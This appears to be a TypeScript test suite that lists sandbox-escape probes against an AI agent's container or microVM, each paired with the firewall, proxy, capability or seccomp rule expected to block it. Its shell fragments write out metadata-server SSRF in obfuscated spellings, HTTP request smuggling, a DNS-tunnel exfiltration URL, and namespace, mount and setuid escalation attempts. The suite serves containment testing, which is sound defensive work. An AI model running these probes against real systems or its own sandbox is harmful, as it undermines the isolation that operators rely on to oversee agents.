// The attack table (issue 18): every case an agent could try from inside its sandbox, as the agent user,
// each naming the mechanism that must stop it. A case is a bash fragment that prints one verdict line,
// `BLOCKED <how>` or `ESCAPED <what happened>`; anything else is inconclusive and fails the suite, so a
// probe that breaks cannot pass for a blocked attack. `knownHole` marks an attack that gets through today
// and is described in docs/security.md: the suite expects it to escape, and fails when it no longer does.
// The environment each fragment sees is set by attacks.test.ts (addresses of the test's own world).

import { readFileSync } from "node:fs";
import * as path from "node:path";
import { LISTENER_SETUP, listenerCases } from "./listener-cases.js";
import { symlinkCases } from "./symlink-cases.js";

export type AttackClass =
  "egress" | "privilege" | "exhaustion" | "cross-tenant-auth" | "git" | "listener" | "symlink";

export interface SandboxCase {
  readonly id: string;
  readonly cls: AttackClass;
  readonly attack: string;
  readonly mechanism: string;
  readonly script: string;
  /** Run beside the other parallel cases (network probes); otherwise one after another. */
  readonly parallel?: boolean;
  /** Which host rule must count its packets: the tenant's forward or input DROP, or the metadata DROP. */
  readonly counts?: "forward" | "input" | "metadata";
  readonly knownHole?: string;
  /**
   * What the case is in a microVM guest (issue 19), whose boundary is a kernel of its own: the mechanism
   * that answers it there and a probe of that mechanism. Absent: the same case, the same probe.
   */
  readonly microvm?: { readonly mechanism: string; readonly script: string };
}

/** The cases as a microVM guest runs them: each one's guest variant where it has one. */
export function inMicroVm(cases: readonly SandboxCase[]): SandboxCase[] {
  return cases.map((c) => (c.microvm ? { ...c, ...c.microvm } : c));
}

// Through the script's fork server (FORK_SERVER below): a process of its own for each probe, without an
// interpreter's start-up each (most of the hundreds of probes run in an emulated guest, 24 at a time).
const P = "sec_py /tmp/sec/probe.py";
const FORWARD_DROP = "iptables SANDBOX-FORWARD: the tenant bridge's DROP (nothing forwarded out)";
const INPUT_DROP =
  "iptables SANDBOX-INPUT: the tenant bridge's DROP (only its own gateway's proxy and gateway ports)";
const METADATA_DROP = "iptables host baseline: 169.254.169.254 dropped from tenant bridges";
const SQUID_NAMES = "Squid: the tenant's dstdomain -n allowlist (names only), then deny all";
const SQUID_LITERAL = "Squid: CONNECT to an IP literal refused; an IP literal is never an allowlisted name";
const SQUID_DST =
  "Squid: an allowed name leading to localhost, link-local or a private range is refused (to_localhost, to_linklocal, to_private)";
const SQUID_PORTS = "Squid: Safe_ports 80/443 only, CONNECT to 443 only";

const egressCase = (
  id: string,
  attack: string,
  mechanism: string,
  script: string,
  counts?: SandboxCase["counts"],
): SandboxCase => ({ id: `egress/${id}`, cls: "egress", attack, mechanism, script, parallel: true, counts });

/** Names and spellings, each a separate case. */
const WORLD_SPELLINGS: [string, string][] = [
  ["dotted", "198.18.0.2"],
  ["decimal", "3323068418"],
  ["hex", "0xc6120002"],
  ["hex-octets", "0xc6.0x12.0x0.0x2"],
  ["octal-octets", "0306.022.0.02"],
  ["short-3", "198.18.2"],
  ["short-2", "198.1179650"],
  ["trailing-dot", "198.18.0.2."],
  ["ipv6-mapped", "[::ffff:198.18.0.2]"],
  ["ipv6-mapped-hex", "[::ffff:c612:2]"],
  ["ipv6-mapped-long", "[0:0:0:0:0:ffff:c612:0002]"],
  ["ipv6-compatible", "[::198.18.0.2]"],
];
const METADATA_SPELLINGS: [string, string][] = [
  ["dotted", "169.254.169.254"],
  ["decimal", "2852039166"],
  ["hex", "0xa9fea9fe"],
  ["octal-octets", "0251.0376.0251.0376"],
  ["short-3", "169.254.43518"],
  ["ipv6-mapped", "[::ffff:169.254.169.254]"],
  ["name-gce", "metadata.google.internal"],
  ["name-short", "metadata"],
];
const LOOPBACK_SPELLINGS: [string, string][] = [
  ["localhost", "localhost"],
  ["localhost-dot", "localhost."],
  ["localhost-case", "LocalHost"],
  ["dotted", "127.0.0.1"],
  ["short", "127.1"],
  ["decimal", "2130706433"],
  ["hex", "0x7f000001"],
  ["zero", "0"],
  ["any", "0.0.0.0"],
  ["ipv6", "[::1]"],
  ["ipv6-mapped", "[::ffff:127.0.0.1]"],
];

/** Names in the Squid's hosts file (attacks.test.ts): allowed by the tenant's wildcard, leading inward. */
export const INWARD_NAMES: [string, string, string][] = [
  ["loop", "127.0.0.1", "loopback"],
  ["loop6", "::1", "IPv6 loopback"],
  ["mapped", "::ffff:127.0.0.1", "IPv4-mapped loopback"],
  ["meta", "169.254.169.254", "the metadata address"],
  ["mapped-meta", "::ffff:169.254.169.254", "the metadata address, IPv4-mapped"],
  ["private10", "10.255.255.2", "10/8"],
  ["private172", "172.31.255.2", "172.16/12"],
  ["private192", "192.168.255.2", "192.168/16"],
  ["cgnat", "100.127.255.2", "100.64/10"],
  ["ula", "fd00::2", "IPv6 unique-local"],
  ["linklocal6", "fe80::2", "IPv6 link-local"],
  ["self", "198.18.0.1", "the host's own (non-private) address"],
  ["hostip", "192.0.2.2", "the host's main interface address"],
];

export const WILDCARD_EDGE_NAMES = [
  "evil$WILD",
  "$WILD.evil.test",
  "$WILD-evil.test",
  "x$WILD",
  "$WILD_NOTLD",
];

function egressCases(): SandboxCase[] {
  const cases: SandboxCase[] = [];
  // Direct, no proxy: every packet must die on the host's rules before it leaves.
  for (const port of [80, 443, 22, 53, 8080])
    cases.push(
      egressCase(
        `direct/world-tcp-${port}`,
        `TCP to the internet :${port}`,
        FORWARD_DROP,
        `${P} tcp $WORLD ${port}`,
        "forward",
      ),
    );
  for (const port of [53, 123, 443])
    cases.push(
      egressCase(
        `direct/world-udp-${port}`,
        `UDP to the internet :${port}`,
        FORWARD_DROP,
        `${P} udp $WORLD ${port}`,
        "forward",
      ),
    );
  cases.push(
    egressCase(
      "direct/world-icmp",
      "ICMP echo to the internet",
      `${FORWARD_DROP}; no CAP_NET_RAW`,
      `${P} icmp $WORLD`,
    ),
  );
  for (const [name, address] of [
    ["10", "10.255.255.2"],
    ["172", "172.31.255.2"],
    ["192", "192.168.255.2"],
    ["cgnat", "100.127.255.2"],
  ])
    cases.push(
      egressCase(
        `direct/private-${name}`,
        `TCP to private range ${address}`,
        FORWARD_DROP,
        `${P} tcp ${address} 80`,
        "forward",
      ),
    );
  for (const port of [80, 443])
    cases.push(
      egressCase(
        `direct/metadata-tcp-${port}`,
        `TCP to the metadata address :${port}`,
        METADATA_DROP,
        `${P} tcp $MD ${port}`,
        "metadata",
      ),
    );
  cases.push(
    egressCase(
      "direct/metadata-udp",
      "UDP to the metadata address",
      METADATA_DROP,
      `${P} udp $MD 53`,
      "metadata",
    ),
    egressCase(
      "direct/metadata-icmp",
      "ICMP echo to the metadata address",
      `${METADATA_DROP}; no CAP_NET_RAW`,
      `${P} icmp $MD`,
    ),
    egressCase(
      "host/gateway-ports",
      "every other TCP port the host listens on, at the tenant's gateway",
      INPUT_DROP,
      `${P} tcpmany $GW $HOST_PORTS_GW`,
      "input",
    ),
    egressCase(
      "host/main-address-ports",
      "every TCP port the host listens on, at its main address",
      INPUT_DROP,
      `${P} tcpmany $HOST_MAIN $HOST_PORTS_ALL`,
      "input",
    ),
    egressCase(
      "host/docker0-ports",
      "every TCP port the host listens on, at docker0's address",
      INPUT_DROP,
      `${P} tcpmany $HOST_DOCKER0 $HOST_PORTS_ALL`,
      "input",
    ),
    egressCase(
      "host/world-side-ports",
      "every TCP port the host listens on, at its address facing the internet",
      INPUT_DROP,
      `${P} tcpmany $HOST_SELF $HOST_PORTS_ALL`,
      "input",
    ),
    egressCase(
      "host/api-direct",
      "the runtime API (/metrics) directly on the gateway address",
      INPUT_DROP,
      `${P} tcp $GW $API_PORT`,
      "input",
    ),
    egressCase(
      "host/service-direct",
      "a host service on 0.0.0.0, at the gateway address",
      INPUT_DROP,
      `${P} tcp $GW $HOSTSVC_PORT`,
      "input",
    ),
    egressCase(
      "host/gateway-udp-53",
      "DNS to the gateway (the engine's resolver upstream)",
      INPUT_DROP,
      `${P} dns $GW`,
      "input",
    ),
    egressCase(
      "other/gateway-proxy",
      "the other tenant's proxy address",
      INPUT_DROP,
      `${P} tcp $OGW $PROXY_PORT`,
      "input",
    ),
    egressCase(
      "other/gateway-credential",
      "the other tenant's credential gateway",
      INPUT_DROP,
      `${P} tcp $OGW 3180`,
      "input",
    ),
    egressCase(
      "other/sandbox-ssh",
      "the other sandbox's sshd",
      FORWARD_DROP,
      `${P} tcp $OSB 2222`,
      "forward",
    ),
    egressCase(
      "other/sandbox-port-80",
      "the other sandbox, any port",
      FORWARD_DROP,
      `${P} tcp $OSB 80`,
      "forward",
    ),
    egressCase(
      "other/sandbox-udp",
      "the other sandbox over UDP",
      FORWARD_DROP,
      `${P} udp $OSB 53`,
      "forward",
    ),
    egressCase(
      "other/sandbox-icmp",
      "the other sandbox by ICMP",
      `${FORWARD_DROP}; no CAP_NET_RAW`,
      `${P} icmp $OSB`,
    ),
    // DNS: no resolver answers inside.
    egressCase(
      "dns/libc-lookup",
      "a name lookup through the C library",
      "resolv.conf points at the sandbox's own loopback, where nothing listens",
      `${P} resolve github.com`,
    ),
    egressCase(
      "dns/libc-allowed-name",
      "looking up the sandbox's own allowlisted name",
      "no resolver inside: names are resolved only by Squid",
      `${P} resolve $OWN`,
    ),
    egressCase(
      "dns/engine-resolver",
      "a query to the engine's embedded resolver (127.0.0.11) for a tunnel name",
      "the engine's resolver forwards only to the gateway, dropped by SANDBOX-INPUT",
      `${P} dns 127.0.0.11`,
    ),
    egressCase(
      "dns/direct-world",
      "a DNS query straight to a resolver on the internet",
      FORWARD_DROP,
      `${P} dns $WORLD`,
      "forward",
    ),
    egressCase(
      "dns/tunnel-via-proxy",
      "data in a name nobody allowed, through the proxy (DNS tunnel)",
      `${SQUID_NAMES}; refused before any lookup (squid-dns.test.ts)`,
      `${P} http http://c2VjcmV0LWRhdGE.tunnel.sandbox.test/`,
    ),
    // IPv6: the bridges have none.
    egressCase(
      "ipv6/no-address",
      "an IPv6 address on any interface but loopback",
      "tenant bridges are created with IPv6 off",
      `if grep -v ' lo$' /proc/net/if_inet6 2>/dev/null | grep -q .; then echo "ESCAPED $(grep -v ' lo$' /proc/net/if_inet6 | head -1)"; else echo "BLOCKED only loopback has IPv6"; fi`,
    ),
    egressCase(
      "ipv6/global",
      "TCP to a global IPv6 address",
      "no IPv6 route (bridge IPv6 off); host drops IPv6 forwarding from tenant bridges",
      `${P} tcp6 2001:db8::2 80`,
    ),
    egressCase(
      "ipv6/nat64",
      "TCP to the internet through a NAT64 prefix",
      "no IPv6 route (bridge IPv6 off)",
      `${P} tcp6 64:ff9b::c612:2 80`,
    ),
    egressCase(
      "ipv6/mapped-socket",
      "TCP to the internet as an IPv4-mapped IPv6 address",
      FORWARD_DROP,
      `${P} tcp6 ::ffff:198.18.0.2 80`,
      "forward",
    ),
    egressCase(
      "ipv6/proxy-literal",
      "plain HTTP to an IPv6 literal through the proxy",
      SQUID_NAMES,
      `${P} http 'http://[2001:db8::2]/'`,
    ),
    egressCase(
      "ipv6/proxy-connect-literal",
      "CONNECT to an IPv6 literal",
      SQUID_LITERAL,
      `${P} connect '[2001:db8::2]:443'`,
    ),
  );
  // Through the proxy: IP literals in every spelling.
  for (const [name, host] of WORLD_SPELLINGS) {
    cases.push(
      egressCase(
        `proxy/world-http-${name}`,
        `plain HTTP to the internet as ${host}`,
        SQUID_NAMES,
        `${P} http 'http://${host}/'`,
      ),
      egressCase(
        `proxy/world-connect-${name}`,
        `CONNECT to the internet as ${host}:443`,
        `${SQUID_LITERAL}; ${SQUID_NAMES}`,
        `${P} connect '${host}:443'`,
      ),
    );
  }
  for (const [name, host] of METADATA_SPELLINGS) {
    cases.push(
      egressCase(
        `proxy/metadata-http-${name}`,
        `plain HTTP to the metadata server as ${host}`,
        SQUID_NAMES,
        `${P} http 'http://${host}/computeMetadata/v1/'`,
      ),
    );
  }
  cases.push(
    egressCase(
      "proxy/metadata-connect",
      "CONNECT to the metadata address",
      SQUID_LITERAL,
      `${P} connect 169.254.169.254:443`,
    ),
    egressCase(
      "proxy/metadata-connect-name",
      "CONNECT to the metadata server by name",
      SQUID_NAMES,
      `${P} connect metadata.google.internal:443`,
    ),
  );
  for (const [name, host] of LOOPBACK_SPELLINGS)
    cases.push(
      egressCase(
        `proxy/loopback-${name}`,
        `plain HTTP to the proxy host's loopback as ${host}`,
        SQUID_NAMES,
        `${P} http 'http://${host}/'`,
      ),
    );
  cases.push(
    egressCase(
      "proxy/loopback-api-metrics",
      "the runtime's /metrics on the proxy host's loopback",
      `${SQUID_PORTS}; ${SQUID_NAMES}`,
      `${P} http "http://localhost:$API_PORT/metrics"`,
    ),
    egressCase(
      "proxy/loopback-connect",
      "CONNECT to localhost:443",
      SQUID_NAMES,
      `${P} connect localhost:443`,
    ),
    egressCase(
      "proxy/gateway-literal",
      "the host by its gateway address",
      SQUID_NAMES,
      `${P} http "http://$GW/"`,
    ),
    egressCase(
      "proxy/gateway-api",
      "the runtime API by the gateway address",
      `${SQUID_PORTS}; ${SQUID_NAMES}`,
      `${P} http "http://$GW:$API_PORT/healthz"`,
    ),
    egressCase(
      "proxy/host-docker-internal",
      "the host by the engine's name for it",
      SQUID_NAMES,
      `${P} http http://host.docker.internal/`,
    ),
    egressCase(
      "proxy/squid-manager",
      "Squid's cache manager",
      "Squid: http_access deny manager; Safe_ports",
      `${P} http "http://$GW:$PROXY_PORT/squid-internal-mgr/info"`,
    ),
    egressCase(
      "proxy/cache-object",
      "Squid's cache_object: scheme",
      "Squid: http_access deny manager",
      `${P} http cache_object://localhost/info`,
    ),
  );
  // Allowed names that lead inward.
  for (const [label, , what] of INWARD_NAMES) {
    cases.push(
      egressCase(
        `proxy/inward-${label}-http`,
        `an allowlisted name resolving to ${what}, plain HTTP`,
        SQUID_DST,
        `${P} http "http://${label}.$WILD/"`,
      ),
    );
    if (["loop", "meta", "private10", "self"].includes(label))
      cases.push(
        egressCase(
          `proxy/inward-${label}-connect`,
          `an allowlisted name resolving to ${what}, CONNECT`,
          SQUID_DST,
          `${P} connect "${label}.$WILD:443"`,
        ),
      );
  }
  // The other tenant's names, in every spelling, and the wildcard's edges.
  cases.push(
    egressCase(
      "names/other-tenant",
      "the other tenant's allowlisted name",
      SQUID_NAMES,
      `${P} http "http://$THEIRS/"`,
    ),
    egressCase(
      "names/other-tenant-dot",
      "the other tenant's name with a trailing dot",
      SQUID_NAMES,
      `${P} http "http://$THEIRS./"`,
    ),
    egressCase(
      "names/other-tenant-case",
      "the other tenant's name in upper case",
      SQUID_NAMES,
      `${P} http "http://$THEIRS_UPPER/"`,
    ),
    egressCase(
      "names/other-tenant-connect",
      "CONNECT to the other tenant's name",
      SQUID_NAMES,
      `${P} connect "$THEIRS:443"`,
    ),
    egressCase(
      "names/other-wildcard",
      "a name under the other tenant's wildcard",
      SQUID_NAMES,
      `${P} http "http://x.$OWILD/"`,
    ),
    egressCase(
      "names/other-wildcard-apex",
      "the other tenant's wildcard apex",
      SQUID_NAMES,
      `${P} http "http://$OWILD/"`,
    ),
    egressCase("names/denied", "a name nobody allowed", SQUID_NAMES, `${P} http http://denied.sandbox.test/`),
    egressCase(
      "names/denied-connect",
      "CONNECT to a name nobody allowed",
      SQUID_NAMES,
      `${P} connect denied.sandbox.test:443`,
    ),
  );
  for (const [i, edge] of WILDCARD_EDGE_NAMES.entries())
    cases.push(
      egressCase(
        `names/wildcard-edge-${i + 1}`,
        `a name at the edge of the wildcard .$WILD: ${edge}`,
        SQUID_NAMES,
        `${P} http "http://${edge}/"`,
      ),
    );
  // Userinfo, absolute-URI and request-line tricks (raw requests, exactly as written).
  const raw = (id: string, attack: string, request: string, mechanism = SQUID_NAMES, script?: string) =>
    egressCase(`uri/${id}`, attack, mechanism, script ?? `${P} raw "${request}"`);
  /** Blocked unless the other tenant's name is what answered (the allowed part legitimately answers). */
  const theirsAnswered = (request: string) =>
    `out=$(${P} raw "${request}"); case "$out" in *"world:$THEIRS"*) echo "ESCAPED $out";; ESCAPED*"world:$OWN"*) echo "BLOCKED only the allowed name answered";; *) echo "$out";; esac`;
  cases.push(
    raw(
      "userinfo-other",
      "userinfo naming the own host, the real host the other tenant's",
      "",
      SQUID_NAMES,
      `${P} http "http://$OWN@$THEIRS/"`,
    ),
    raw(
      "userinfo-literal",
      "userinfo naming the own host, the real host an IP literal",
      "",
      SQUID_NAMES,
      `${P} http "http://$OWN:pw@198.18.0.2/"`,
    ),
    raw(
      "userinfo-metadata",
      "userinfo in front of the metadata address",
      "",
      SQUID_NAMES,
      `${P} http "http://$OWN@169.254.169.254/"`,
    ),
    raw(
      "host-header-mismatch",
      "an allowed URI with the other tenant's name in Host",
      "",
      SQUID_NAMES,
      theirsAnswered("GET http://$OWN/ HTTP/1.1\\r\\nHost: $THEIRS\\r\\nConnection: close\\r\\n\\r\\n"),
    ),
    raw(
      "uri-other-host-own",
      "the other tenant's URI with the own name in Host",
      "GET http://$THEIRS/ HTTP/1.1\\r\\nHost: $OWN\\r\\nConnection: close\\r\\n\\r\\n",
    ),
    raw(
      "origin-form",
      "an origin-form request naming the other tenant in Host",
      "GET / HTTP/1.1\\r\\nHost: $THEIRS\\r\\nConnection: close\\r\\n\\r\\n",
      "Squid: an origin-form request is not a proxy request (no accelerator port)",
    ),
    raw(
      "no-host-http10",
      "an HTTP/1.0 absolute URI to the other tenant without Host",
      "GET http://$THEIRS/ HTTP/1.0\\r\\n\\r\\n",
    ),
    raw(
      "fragment-at",
      "a fragment hiding the real host (other#@own)",
      "GET http://$THEIRS#@$OWN/ HTTP/1.1\\r\\nHost: $OWN\\r\\nConnection: close\\r\\n\\r\\n",
      SQUID_NAMES,
      theirsAnswered("GET http://$THEIRS#@$OWN/ HTTP/1.1\\r\\nHost: $OWN\\r\\nConnection: close\\r\\n\\r\\n"),
    ),
    raw(
      "backslash-at",
      "a backslash hiding the real host (own\\\\@other)",
      "",
      SQUID_NAMES,
      theirsAnswered(
        "GET http://$OWN\\\\\\\\@$THEIRS/ HTTP/1.1\\r\\nHost: $THEIRS\\r\\nConnection: close\\r\\n\\r\\n",
      ),
    ),
    raw(
      "pipelined",
      "a second, pipelined request to the other tenant after an allowed one",
      "",
      SQUID_NAMES,
      theirsAnswered(
        "GET http://$OWN/ HTTP/1.1\\r\\nHost: $OWN\\r\\n\\r\\nGET http://$THEIRS/ HTTP/1.1\\r\\nHost: $THEIRS\\r\\nConnection: close\\r\\n\\r\\n",
      ),
    ),
    raw(
      "smuggled-cl-te",
      "a request smuggled behind Content-Length and Transfer-Encoding",
      "",
      "Squid: conflicting framing refused or the smuggled request checked on its own",
      theirsAnswered(
        "POST http://$OWN/ HTTP/1.1\\r\\nHost: $OWN\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://$THEIRS/ HTTP/1.1\\r\\nHost: $THEIRS\\r\\nConnection: close\\r\\n\\r\\n",
      ),
    ),
    raw(
      "https-uri-other",
      "a plain GET for the other tenant's https:// URI",
      "GET https://$THEIRS/ HTTP/1.1\\r\\nHost: $THEIRS\\r\\nConnection: close\\r\\n\\r\\n",
    ),
    raw(
      "port-22",
      "the own name on port 22",
      "GET http://$OWN:22/ HTTP/1.1\\r\\nHost: $OWN:22\\r\\nConnection: close\\r\\n\\r\\n",
      SQUID_PORTS,
    ),
    raw(
      "port-8080",
      "the own name on port 8080",
      "GET http://$OWN:8080/ HTTP/1.1\\r\\nHost: $OWN:8080\\r\\nConnection: close\\r\\n\\r\\n",
      SQUID_PORTS,
    ),
    raw(
      "connect-port-80",
      "CONNECT to the own name on port 80",
      "CONNECT $OWN:80 HTTP/1.1\\r\\nHost: $OWN:80\\r\\n\\r\\n",
      SQUID_PORTS,
    ),
    raw(
      "connect-port-22",
      "CONNECT to the own name on port 22",
      "CONNECT $OWN:22 HTTP/1.1\\r\\nHost: $OWN:22\\r\\n\\r\\n",
      SQUID_PORTS,
    ),
    raw(
      "ftp-scheme",
      "an ftp:// URI to the own name",
      "GET ftp://$OWN/ HTTP/1.1\\r\\nHost: $OWN\\r\\nConnection: close\\r\\n\\r\\n",
      SQUID_PORTS,
    ),
    raw(
      "options-other",
      "OPTIONS to the other tenant's name",
      "OPTIONS http://$THEIRS/ HTTP/1.1\\r\\nHost: $THEIRS\\r\\nConnection: close\\r\\n\\r\\n",
    ),
  );
  return cases;
}

const sandboxCase = (
  cls: AttackClass,
  id: string,
  attack: string,
  mechanism: string,
  script: string,
  knownHole?: string,
): SandboxCase => ({
  id: `${cls}/${id}`,
  cls,
  attack,
  mechanism,
  script,
  ...(knownHole ? { knownHole } : {}),
});

/** `ESCAPED` when `command` succeeds, `BLOCKED` with its error when it fails. */
const fails = (command: string) =>
  `if out=$( { ${command} ; } 2>&1 ); then echo "ESCAPED succeeded: $(echo $out | head -c 200)"; else echo "BLOCKED $(echo $out | tail -c 200)"; fi`;
/** A syscall through ctypes: `ESCAPED` when it returns ≥ 0. */
const syscall = (nr: number, args: string) =>
  `python3 -c 'import ctypes,os; l=ctypes.CDLL(None,use_errno=True); r=l.syscall(${nr},${args}); e=ctypes.get_errno(); print("ESCAPED returned %d" % r if r >= 0 else "BLOCKED errno %d %s" % (e, os.strerror(e)))'`;

const GUEST_KERNEL =
  "a kernel of its own (microVM): what a container's seccomp filter keeps from the host's kernel reaches only the guest's";
/** `BLOCKED` when the kernel answering is not the host's (another boot id), after trying `attempt`. */
const ownKernel = (attempt: string) =>
  `${attempt} >/dev/null 2>&1; b=$(cat /proc/sys/kernel/random/boot_id); if [ -n "$b" ] && [ "$b" != "$HOST_BOOT_ID" ]; then echo "BLOCKED the guest's own kernel answered (boot $b, uname $(uname -r))"; else echo "ESCAPED the host's kernel answered (boot $b)"; fi`;
/** `BLOCKED` when none of the device nodes `find` lists may be opened by the agent. */
const noneOpenable = (find: string, what: string) =>
  `bad=""; n=0; for d in $(${find}); do n=$((n + 1)); { [ -r "$d" ] || [ -w "$d" ]; } && bad="$bad $d"; done; [ -z "$bad" ] && echo "BLOCKED ${what}: $n, none the agent may open" || echo "ESCAPED the agent may open$bad"`;
const EXTRA_NODES = `find /dev -xdev \\( -type b -o -type c \\) 2>/dev/null | grep -vE '^/dev/(null|zero|full|random|urandom|tty|console|ptmx|pts/.*)$'`;

/** Guest variants of the privilege cases whose container mechanism a guest does not have (by short id). */
const PRIVILEGE_IN_GUEST: Record<string, { mechanism: string; script: string }> = {
  "seccomp-mode": { mechanism: GUEST_KERNEL, script: ownKernel("true") },
  "keyring-join": { mechanism: GUEST_KERNEL, script: ownKernel(syscall(250, '1, b"attack"')) },
  "keyring-add-key": {
    mechanism: GUEST_KERNEL,
    script: ownKernel(syscall(248, 'b"user", b"k", b"v", 1, -3')),
  },
  "dev-nodes": {
    mechanism: "the guest's own virtual devices (its disks, consoles), root's 0600 (devtmpfs, no udev)",
    script: noneOpenable(EXTRA_NODES, "device nodes beyond the harmless ones"),
  },
  "dev-block-any": {
    mechanism: "the guest's own virtual disks, root's 0600 (devtmpfs, no udev)",
    script: noneOpenable("find /dev -type b 2>/dev/null", "block devices"),
  },
  "host-mounts": {
    mechanism:
      "a guest has no host path: its disks are images of its own, nothing shared (no 9p, virtiofs, NFS, FUSE)",
    script: `python3 -c '
bad = []
for line in open("/proc/self/mountinfo"):
    pre, post = line.split(" - ")
    f = pre.split(); fstype = post.split()[0]
    if fstype in ("9p", "virtiofs", "nfs", "nfs4", "cifs", "smb3") or fstype.startswith("fuse"): bad.append(f[4] + ":" + fstype); continue
    if f[5].split(",")[0] != "rw" or f[4] == "/": continue
    if fstype in ("proc", "sysfs", "tmpfs", "devtmpfs", "devpts", "mqueue", "cgroup", "cgroup2"): continue
    if f[4] in ("/home/agent", "/mnt/backup"): continue
    bad.append(f[4] + ":" + fstype)
print("ESCAPED " + " ".join(bad) if bad else "BLOCKED writable: the root, /home/agent and /mnt/backup (disks of the guest only) and kernel filesystems; nothing shared with the host")'`,
  },
};

function privilegeCases(): SandboxCase[] {
  const c = (id: string, attack: string, mechanism: string, script: string, knownHole?: string) =>
    sandboxCase("privilege", id, attack, mechanism, script, knownHole);
  const status = (field: string, ok: string) =>
    `v=$(awk '/^${field}:/ {print $2}' /proc/self/status); if [ "$v" = "${ok}" ]; then echo "BLOCKED ${field} $v"; else echo "ESCAPED ${field} $v"; fi`;
  const CAPS = "capabilities: every one dropped but the image's eight, none effective for the agent";
  const SECCOMP = "seccomp: the engine's default filter";
  return [
    c("cap-effective", "any effective capability", CAPS, status("CapEff", "0000000000000000")),
    c("cap-permitted", "any permitted capability", CAPS, status("CapPrm", "0000000000000000")),
    c("cap-ambient", "any ambient capability", CAPS, status("CapAmb", "0000000000000000")),
    c(
      "cap-bounding",
      "SYS_ADMIN, NET_ADMIN, NET_RAW, SYS_PTRACE, SYS_MODULE or MKNOD in the bounding set",
      "CapDrop ALL; CapAdd only the image's label",
      `b=$((16#$(awk '/^CapBnd:/ {print $2}' /proc/self/status))); bad=""; for n in 21 12 13 19 16 27 25 17 2; do [ $(( (b >> n) & 1 )) = 1 ] && bad="$bad $n"; done; [ -z "$bad" ] && echo "BLOCKED none of them" || echo "ESCAPED capability numbers$bad"`,
    ),
    c("no-new-privs", "regaining privileges through exec", "no-new-privileges", status("NoNewPrivs", "1")),
    c("seccomp-mode", "running without a seccomp filter", SECCOMP, status("Seccomp", "2")),
    c(
      "setuid-su",
      "su to root",
      "no-new-privileges (setuid ignored); no root password",
      fails("timeout 5 su -c id root </dev/null"),
    ),
    c("setuid-sudo", "sudo", "no sudo, no-new-privileges", fails("sudo -n id")),
    c(
      "setuid-passwd",
      "removing the agent's password with setuid passwd",
      "no-new-privileges (setuid ignored): /etc/shadow stays root's",
      fails("passwd -d agent </dev/null"),
    ),
    c(
      "setuid-mount",
      "a mount through the setuid mount binary",
      "no-new-privileges (setuid ignored)",
      fails("mkdir -p /tmp/m2 && /bin/mount -t tmpfs none /tmp/m2"),
    ),
    c("setuid-python", "setting the uid to 0 directly", CAPS, fails("python3 -c 'import os; os.setuid(0)'")),
    c("setgroups-root", "joining group root", CAPS, fails("python3 -c 'import os; os.setgroups([0])'")),
    c(
      "userns-unshare",
      "a user namespace (root inside it)",
      `${SECCOMP} (unshare/clone with CLONE_NEWUSER needs CAP_SYS_ADMIN)`,
      fails("unshare -Ur id"),
    ),
    c("netns-unshare", "a network namespace", SECCOMP, fails("unshare -n true")),
    c("mountns-unshare", "a mount namespace", SECCOMP, fails("unshare -m true")),
    c("pidns-unshare", "a PID namespace", SECCOMP, fails("unshare -p -f true")),
    c(
      "mount-tmpfs",
      "mounting a filesystem",
      `${CAPS} (no SYS_ADMIN)`,
      fails("mkdir -p /tmp/m && mount -t tmpfs none /tmp/m"),
    ),
    c(
      "mount-bind",
      "a bind mount over a protected path",
      `${CAPS} (no SYS_ADMIN)`,
      fails("mount --bind /tmp /etc/agent-sandbox"),
    ),
    c(
      "mount-syscall",
      "the mount syscall itself",
      `${CAPS} (no SYS_ADMIN)`,
      syscall(165, 'b"none", b"/tmp", b"tmpfs", 0, 0'),
    ),
    c("chroot", "chroot", CAPS, fails("chroot / true")),
    c("nsenter-pid1", "entering PID 1's namespaces", CAPS, fails("nsenter -t 1 -m -u -n true")),
    c(
      "setns-host",
      "setns into /proc/1/ns/mnt",
      CAPS,
      fails("python3 -c 'import os; fd=os.open(\"/proc/1/ns/mnt\", os.O_RDONLY); os.setns(fd, 0)'"),
    ),
    c("keyring-join", "a kernel keyring (keyctl join session)", SECCOMP, syscall(250, '1, b"attack"')),
    c(
      "keyring-add-key",
      "adding a key to the kernel keyring",
      SECCOMP,
      syscall(248, 'b"user", b"k", b"v", 1, -3'),
    ),
    c(
      "keyring-request-key",
      "requesting a key (upcall to the host)",
      SECCOMP,
      syscall(249, 'b"user", b"k", 0, 0'),
    ),
    c("mknod-block", "creating a block device node", `${CAPS} (no MKNOD)`, fails("mknod /tmp/sda b 8 0")),
    c("mknod-char-mem", "creating /dev/mem", `${CAPS} (no MKNOD)`, fails("mknod /tmp/mem c 1 1")),
    c(
      "dev-mem",
      "reading /dev/mem or /dev/kmem",
      "no such device in the container",
      fails("head -c 1 /dev/mem || head -c 1 /dev/kmem"),
    ),
    c(
      "dev-kmsg",
      "reading the kernel log",
      "no /dev/kmsg; syslog needs CAP_SYSLOG",
      fails("head -c 1 /dev/kmsg"),
    ),
    c(
      "dev-nodes",
      "any device node beyond the harmless ones",
      "the engine's default device list",
      `extra=$(find /dev -xdev \\( -type b -o -type c \\) 2>/dev/null | grep -vE '^/dev/(null|zero|full|random|urandom|tty|console|ptmx|pts/.*)$'); [ -z "$extra" ] && echo "BLOCKED only null, zero, full, random, urandom, tty, console, ptmx" || echo "ESCAPED $(echo $extra)"`,
    ),
    c(
      "dev-block-any",
      "any block device",
      "the engine's default device list",
      `b=$(find /dev -type b 2>/dev/null); [ -z "$b" ] && echo "BLOCKED no block devices" || echo "ESCAPED $b"`,
    ),
    c(
      "engine-socket",
      "the engine's socket",
      "no engine socket mounted (the provider refuses it)",
      `s=$(find / -xdev \\( -name 'docker.sock' -o -name 'containerd.sock' -o -name 'podman.sock' \\) 2>/dev/null; ls /var/run/docker.sock /run/docker.sock /run/containerd/containerd.sock 2>/dev/null); [ -z "$s" ] && echo "BLOCKED no engine socket anywhere" || echo "ESCAPED $s"`,
    ),
    c(
      "host-mounts",
      "a host path mounted writable beyond the home volume and its own backups",
      "the tenant stack mounts only the home volume, its backup directory and read-only secrets",
      `python3 -c '
bad = []
for line in open("/proc/self/mountinfo"):
    pre, post = line.split(" - ")
    f = pre.split(); fstype = post.split()[0]
    if f[5].split(",")[0] != "rw" or f[4] == "/": continue
    if fstype in ("proc", "sysfs", "tmpfs", "devpts", "mqueue", "cgroup", "cgroup2", "overlay"): continue
    if f[4] in ("/home/agent", "/mnt/backup", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf"): continue
    bad.append(f[4] + ":" + fstype)
